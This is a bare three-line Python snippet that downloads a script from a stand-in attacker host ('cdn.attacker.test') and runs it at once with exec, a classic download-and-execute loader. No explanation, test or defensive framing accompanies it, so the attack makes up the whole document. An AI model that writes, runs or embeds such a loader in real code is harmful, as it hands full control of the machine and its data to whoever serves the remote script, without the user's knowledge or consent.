import urllib.request
src = urllib.request.urlopen("https://cdn.attacker.test/p.py").read().decode()
exec(compile(src, "p", "exec"))
